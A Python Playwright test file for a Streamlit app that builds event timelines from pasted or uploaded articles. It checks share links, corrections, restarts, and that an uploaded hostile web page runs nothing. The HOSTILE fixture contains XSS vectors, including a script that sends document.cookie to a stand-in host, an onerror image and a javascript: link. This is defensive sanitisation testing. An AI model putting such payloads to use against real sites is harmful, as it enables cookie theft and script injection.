"""Bring your own article, in Debian's chromium: paste, correct, share read-only, survive a restart; and a
hostile web page uploaded without anything of it running or calling out.

Each test starts its own `streamlit run` on its own store file. Every request that is not to the app's
origin is recorded and aborted (Playwright routing), so nothing leaves the machine.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.helpers import LAUNCH
from tests.streamlit_server import ServerDidNotStart, free_port, running_app

pytestmark = pytest.mark.browser
expect.set_options(timeout=40_000)

ROOT = Path(__file__).resolve().parents[2]
WAIT = 40_000

# A web page written for this test: its article (the Artemis I splashdown, 11 December 2022, 9:40 a.m. PST =
# 17:40Z) wrapped in script, an onerror image, a javascript: link, an iframe and a tracking pixel.
HOSTILE = """<!doctype html><html><head><title>Orion splashes down</title>
<script>window.__xss = 1; fetch('http://exfil.invalid/steal?c=' + document.cookie);</script>
<link rel="stylesheet" href="http://styles.invalid/site.css"></head>
<body onload="window.__xss = 2"><article>
<h1>Orion splashes down off Baja California</h1>
<p>NASA's Orion capsule splashed down in the Pacific Ocean west of Baja California at 9:40 a.m. PST on Sunday,
ending the Artemis I mission after 25.5 days in space.</p>
<p>Recovery teams aboard the USS Portland reached the capsule at about 10:15 a.m. PST.
<img src="http://tracker.invalid/pixel.png" onerror="window.__xss = 3" alt="">
<a href="javascript:window.__xss=4">Read more</a></p>
<iframe src="http://frame.invalid/"></iframe>
<p>Mission managers said the heat shield performed as expected.</p>
</article></body></html>
"""


def guard(context, origin: str) -> list[str]:
    """Abort and record every request that is not to the app."""
    outside: list[str] = []

    def route(r):
        url = r.request.url
        if url.startswith(origin) or url.startswith(("data:", "blob:")):
            r.continue_()
        else:
            outside.append(url)
            r.abort()

    context.route("**/*", route)
    return outside


def watched_page(browser, origin: str):
    context = browser.new_context(viewport={"width": 1400, "height": 900})
    outside = guard(context, origin)
    page = context.new_page()
    page.set_default_timeout(WAIT)
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    return context, page, outside, dialogs


def open_add_page(page: Page, url: str) -> None:
    page.goto(url)
    page.get_by_role("button", name="Add an article").click()
    expect(page.get_by_role("heading", name="Add an article")).to_be_visible()


def confirm_metadata(page: Page) -> None:
    page.get_by_role("button", name="Add and read it").click()
    expect(page.get_by_text(re.compile(r"Added: \d+ events found"))).to_be_visible()


@pytest.fixture
def store_file(tmp_path) -> Path:
    return tmp_path / "store.sqlite3"


def serve(tmp_path: Path, store_file: Path, port: int, name: str):
    return running_app(ROOT / "app.py", tmp_path / f"{name}.log", env={"SUMMIT_TIMELINE_DB": str(store_file)},
                       port=port)


def test_paste_fix_share_read_only_and_restart(browser, tmp_path, store_file):
    port = free_port()
    try:
        with serve(tmp_path, store_file, port, "first") as url:
            context, page, outside, dialogs = watched_page(browser, url)
            open_add_page(page, url)
            page.get_by_label("Article text").fill(LAUNCH)
            page.get_by_role("button", name="Read this text").click()
            expect(page.get_by_label("Local zone (IANA name, e.g. America/Anchorage)")).to_have_value(
                "America/New_York")
            confirm_metadata(page)
            edit_link = page.get_by_label(re.compile("Your edit link")).input_value()
            assert "edit=" in edit_link

            # Select the launch and move it one minute, in the displayed zone (US Eastern).
            page.get_by_role("combobox", name="Selected event").click()
            page.get_by_role("option", name="Launch", exact=True).click()
            page.get_by_text("Correct events").click()
            form = page.get_by_test_id("stForm").filter(has_text="Correct the selected event")
            start = form.get_by_label("Starts (YYYY-MM-DD HH:MM)")
            expect(start).to_have_value("2024-06-05 10:52")
            start.fill("2024-06-05 10:53")
            form.get_by_role("button", name="Save correction").click()
            expect(page.get_by_text(re.compile(r"#1 .*start 2024-06-05 10:52 → 2024-06-05 10:53"))).to_be_visible()

            share = page.get_by_role("textbox", name="Share this view").input_value()
            assert "edit=" not in share and "doc=" in share and "ev=" in share
            assert dialogs == [] and outside == []
            context.close()

            # Anyone with the share link sees the fix and has no way to edit.
            context, other, outside, _ = watched_page(browser, url)
            other.goto(share)
            expect(other.get_by_text(re.compile(r"Launch · actual · line 4\n10:53 EDT"))).to_be_visible()
            expect(other.get_by_text("Read-only: corrections need the edit link", exact=False)).to_be_visible()
            assert other.get_by_text("Correct events").count() == 0
            assert other.get_by_role("button", name="Save correction").count() == 0
            assert other.get_by_role("button", name="Delete document").count() == 0
            assert outside == []
            context.close()

        # The same store behind a restarted server: the link still opens the fixed document.
        with serve(tmp_path, store_file, port, "second") as url:
            context, again, outside, _ = watched_page(browser, url)
            again.goto(share)
            expect(again.get_by_text(re.compile(r"Launch · actual · line 4\n10:53 EDT"))).to_be_visible()
            assert again.get_by_role("alert").count() == 0 or "ignored" not in again.content()
            # The edit link, kept by the person who added the article, still opens editing.
            assert edit_link.startswith(url), edit_link
            again.goto(edit_link)
            expect(again.get_by_text("Correct events")).to_be_visible()
            assert outside == []
            context.close()
    except ServerDidNotStart as exc:
        pytest.fail(f"streamlit did not start: {exc}")


def test_uploaded_hostile_page_runs_nothing_and_calls_nowhere(browser, tmp_path, store_file):
    page_file = tmp_path / "orion.html"
    page_file.write_text(HOSTILE, encoding="utf-8")
    try:
        with serve(tmp_path, store_file, free_port(), "hostile") as url:
            context, page, outside, dialogs = watched_page(browser, url)
            open_add_page(page, url)
            page.get_by_text("Upload a file").click()
            page.get_by_test_id("stFileUploaderDropzoneInput").set_input_files(str(page_file))
            page.get_by_role("button", name="Read this file").click()
            expect(page.get_by_label("Title", exact=True)).to_have_value(re.compile("Orion"))
            page.get_by_label("Local zone (IANA name, e.g. America/Anchorage)").fill("America/Los_Angeles")
            confirm_metadata(page)
            # The article's words are there; the page's markup is not, here or in the source view.
            page.get_by_role("radiogroup", name="View").get_by_text("source", exact=True).click()
            expect(page.get_by_text("splashed down in the Pacific Ocean", exact=False).first).to_be_visible()
            page.get_by_role("radiogroup", name="View").get_by_text("table", exact=True).click()
            expect(page.get_by_test_id("stDataFrame")).to_be_visible()
            page.wait_for_timeout(1000)        # time for anything injected to run
            assert page.evaluate("typeof window.__xss") == "undefined"
            assert page.locator("iframe[src*='invalid'], img[src*='invalid'], a[href^='javascript']").count() == 0
            assert dialogs == []
            assert outside == [], outside
            context.close()
    except ServerDidNotStart as exc:
        pytest.fail(f"streamlit did not start: {exc}")
